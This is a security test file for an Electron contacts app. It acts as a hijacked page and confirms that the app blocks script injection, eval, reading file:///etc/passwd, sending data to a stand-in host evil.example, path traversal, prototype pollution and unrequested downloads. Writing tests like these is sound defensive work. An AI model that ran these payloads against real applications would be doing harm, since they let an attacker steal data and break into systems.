import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { call, createDesktopApp } from './desktop-app.ts';

/*
 * What a page that was taken over would try, tried from inside the page of the built application.
 * Code that a debugger evaluates is exempt from the policy for as long as it runs; so each attack runs in a later turn.
 */

const desktop = createDesktopApp();
let page: Page;

beforeAll(async () => {
  page = await desktop.launch();
});
afterAll(() => desktop.remove());

/** Runs an attack, a function as source, in a turn of its own; tells how it ended: its value, or the name of its error. */
function attempt(attack: (() => unknown) | string): Promise<unknown> {
  return page.evaluate(`new Promise((resolve) => {
    setTimeout(() => void Promise.resolve().then(${String(attack)}).then(resolve, (error) => resolve(error.name)));
  })`);
}

/** Still our page, with everything in it. */
async function isUnharmed(): Promise<void> {
  await expect.poll(() => page.evaluate(() => document.body.innerText)).toContain('All contacts');
  expect(await call(page, 'contact.count', {})).toBe(0);
  expect(desktop.electron().windows()).toHaveLength(1);
}

describe('code', () => {
  test('no text becomes script: not inline, not by eval, not by markup', async () => {
    expect(await attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.head.append(script);
      return 'ran';
    })).toBe('TypeError');
    expect(await attempt(() => {
      const script = document.createElement('script');
      script.append('window.pwned = 1');
      document.head.append(script);
      return (window as { pwned?: number }).pwned;
    })).toBeUndefined();
    expect(await attempt(`() => new Function('return 1')()`)).toBe('EvalError');
    expect(await attempt(() => {
      document.body.innerHTML = '<img src=x onerror="window.pwned = 1">';
    })).toBe('TypeError');
    expect(await attempt(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.pwned = 1');
      button.click();
      return (window as { pwned?: number }).pwned;
    })).toSatisfy((ending) => ending === undefined || ending === 'TypeError');
    expect(await attempt(() => {
      location.href = 'javascript:window.pwned=1';
      return new Promise((resolve) => setTimeout(() => resolve((window as { pwned?: number }).pwned), 100));
    })).toBeUndefined();
    await isUnharmed();
  });

  test('no policy can be made that would allow it, and no foreign script or worker comes in', async () => {
    expect(await attempt(() => {
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => object } };
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
      return 'made';
    })).toBe('TypeError');
    expect(await attempt(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
    })).toBe('TypeError');
    expect(await attempt(`() => void new Worker('data:text/javascript,1')`)).toBe('TypeError');
    expect(await attempt(`() => import('data:text/javascript,export default 1').then(() => 'ran')`)).toBe('TypeError');
  });

  test('the page has no Node and nothing of Electron, only the frozen bridge', async () => {
    expect(await attempt(() => {
      const world = globalThis as unknown as Record<string, unknown>;
      return ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global'].filter((name) => world[name] !== undefined);
    })).toEqual([]);
    expect(await page.evaluate(() => Object.keys(window.fieldbook).filter((name) => /^(ipc|send|invoke|on|electron)/i.test(name)))).toEqual([]);
    expect(await attempt(() => {
      'use strict';
      window.fieldbook.call = () => Promise.reject(new Error('replaced'));
    })).toBe('TypeError');
    expect(await attempt(() => {
      'use strict';
      (window as { fieldbook: unknown }).fieldbook = {};
    })).toBe('TypeError');
  });
});

describe('ways out', () => {
  test('files of the computer and other servers are out of reach', async () => {
    expect(await attempt(() => fetch('file:///etc/passwd').then((response) => response.text()))).toBe('TypeError');
    expect(await attempt(() => fetch('https://evil.example/?q=stolen').then(() => 'sent'))).toBe('TypeError');
    expect(await attempt(() => new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
      navigator.sendBeacon('https://evil.example/', 'stolen');
    }))).toBe('connect-src');
    expect(await attempt(() => new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
      image.src = 'https://evil.example/?q=stolen';
    }))).toBe('refused');
    expect(await attempt(() => new Promise((resolve) => {
      const socket = new WebSocket('wss://evil.example/');
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    }))).toSatisfy((ending) => ending === 'refused' || ending === 'SecurityError');
  });

  test('of the page’s own scheme only built files are there, however a path is spelled', async () => {
    const paths = ['/..%2fmain%2fmain.js', '/%2e%2e/package.json', '/..%5c..%5cpackage.json', '/assets/..%2f..%2fpreload/preload.cjs', '/C:/x.js', '/package.json'];
    const statuses = await page.evaluate((all) => Promise.all(all.map(async (path) => (await fetch(path)).status)), paths);
    expect(statuses).toEqual(paths.map(() => 404));
  });

  test('no new window, no navigation, no form leads away', async () => {
    const address = page.url();
    expect(await attempt(() => window.open('https://evil.example/'))).toBeNull();
    expect(await attempt(() => window.open('about:blank'))).toBeNull();
    for (const lead of [
      () => {
        location.href = 'https://evil.example/';
      },
      () => {
        location.href = 'file:///etc/passwd';
      },
      () => {
        const link = document.createElement('a');
        link.href = 'https://evil.example/';
        link.target = '_top';
        document.body.append(link);
        link.click();
        link.remove();
      },
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
        form.remove();
      },
    ]) await attempt(lead);
    await page.waitForTimeout(300);
    expect(page.url()).toBe(address);
    await isUnharmed();
  });

  test('a web view is an element without any powers', async () => {
    expect(await attempt(() => {
      const view = document.createElement('webview') as HTMLElement & { loadURL?: unknown; getWebContentsId?: unknown };
      view.setAttribute('src', 'https://evil.example/');
      document.body.append(view);
      const powers = [typeof view.loadURL, typeof view.getWebContentsId];
      view.remove();
      return powers;
    })).toEqual(['undefined', 'undefined']);
    await isUnharmed();
  });

  test('the page downloads nothing by itself', async () => {
    await desktop.electron().evaluate(({ session }) => {
      session.defaultSession.on('will-download', (event, item) => {
        const told = globalThis as { downloads?: [string, boolean][] };
        (told.downloads ??= []).push([item.getFilename(), event.defaultPrevented]);
      });
    });
    await attempt(() => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['stolen']));
      link.download = 'stolen.exe';
      link.click();
    });
    await expect
      .poll(() => desktop.electron().evaluate(() => (globalThis as { downloads?: [string, boolean][] }).downloads))
      .toEqual([['stolen.exe', true]]);
  });

  test('only web, mail and phone addresses are handed to the system, and a new site only when the person says so', async () => {
    await desktop.electron().evaluate(({ dialog, shell }) => {
      const told = globalThis as { opened?: string[]; asked?: string[]; answer?: number };
      Object.assign(told, { opened: [], asked: [], answer: 1 });
      shell.openExternal = async (address) => void told.opened?.push(address);
      dialog.showMessageBox = (async (options: Electron.MessageBoxOptions) => {
        told.asked?.push(options.message);
        return { response: told.answer ?? 1, checkboxChecked: false };
      }) as typeof dialog.showMessageBox;
    });
    const open = (address: string) => page.evaluate(async (to) => {
      const envelope = await window.fieldbook.openExternal(to);
      return envelope.ok ? envelope.value : envelope.error.kind;
    }, address);
    expect(await open('file:///etc/passwd')).toBe('invalid');
    expect(await open('javascript:alert(1)')).toBe('invalid');
    expect(await open('mailto:rosa@nordlicht.example')).toBe(true);
    expect(await open('https://nordlicht.example/a')).toBe(false);
    await desktop.electron().evaluate(() => Object.assign(globalThis, { answer: 0 }));
    expect(await open('https://nordlicht.example/b')).toBe(true);
    expect(await open('https://nordlicht.example/c')).toBe(true);
    expect(await desktop.electron().evaluate(() => {
      const { opened, asked } = globalThis as { opened?: string[]; asked?: string[] };
      return { opened, asked };
    })).toEqual({
      opened: ['mailto:rosa@nordlicht.example', 'https://nordlicht.example/b', 'https://nordlicht.example/c'],
      asked: Array(2).fill('Open nordlicht.example in your browser?'),
    });
  });
});

describe('permissions', () => {
  test('the page gets no place, camera, notification, device or screen; copying works', async () => {
    const state = (name: string) => page.evaluate(
      (asked) => navigator.permissions.query({ name: asked as PermissionName }).then((found) => found.state), name,
    );
    for (const name of ['geolocation', 'camera', 'microphone', 'notifications', 'clipboard-read', 'midi']) {
      expect(await state(name), name).toBe('denied');
    }
    expect(await attempt(() => Notification.requestPermission())).toBe('denied');
    expect(await attempt(() => new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(() => resolve('found'), (error) => resolve(error.code));
    }))).toBe(1);
    expect(await attempt(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => 'sees'))).not.toBe('sees');
    expect(await attempt(() => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'sees'))).not.toBe('sees');
    expect(await attempt(() => navigator.clipboard.readText().then(() => 'read'))).not.toBe('read');
    expect(await state('clipboard-write')).toBe('granted');
  });
});

describe('the bridge', () => {
  test('a frame put into the page has no bridge, and our page cannot be put into a frame', async () => {
    const found = await page.evaluate(async () => {
      const answers: unknown[] = [];
      for (const source of ['about:blank', '/', 'https://evil.example/']) {
        const frame = document.createElement('iframe');
        frame.src = source;
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 300));
        try {
          const inside = frame.contentWindow as Window | null;
          answers.push(inside?.fieldbook === undefined && !inside?.document.querySelector('#root'));
        } catch (error) {
          answers.push((error as Error).name);
        }
        frame.remove();
      }
      return answers;
    });
    for (const answer of found) expect([true, 'SecurityError']).toContain(answer);
    await isUnharmed();
  });

  test('what reaches for a prototype changes none, neither in the page nor in the main process', async () => {
    for (const text of [
      '{"name":"x","__proto__":{"polluted":true}}', '{"name":"x","contact":{"__proto__":{"polluted":true}}}',
      '{"name":"x","constructor":{"prototype":{"polluted":true}}}',
    ]) {
      await page.evaluate(async (json) => {
        await window.fieldbook.call('draft.save', { key: 'x', baseRev: null, values: JSON.parse(json) as Record<string, unknown> });
        await window.fieldbook.call('contact.create', JSON.parse(json) as { name: string });
      }, text);
    }
    const polluted = (): boolean => 'polluted' in {} || 'polluted' in [];
    expect([await page.evaluate(polluted), await desktop.electron().evaluate(polluted)]).toEqual([false, false]);
    for (const { id } of (await call(page, 'contact.search', { q: 'x' }) as { items: { id: string }[] }).items) await call(page, 'contact.delete', { id });
    await isUnharmed();
  });

  test('an argument of 5 MB is refused, an unknown operation too, and nothing changes', async () => {
    await expect(call(page, 'contact.create', { name: 'x'.repeat(5 * 1024 * 1024) })).rejects.toThrow('tooLarge: One call may carry at most 4 MB');
    await expect(call(page, 'no.such.operation', {})).rejects.toThrow('notFound');
    await expect(call(page, '__proto__', {})).rejects.toThrow('notFound');
    await expect(call(page, 'contact.create', { name: 7 })).rejects.toThrow('invalid: name must be a string');
    await isUnharmed();
  });
});
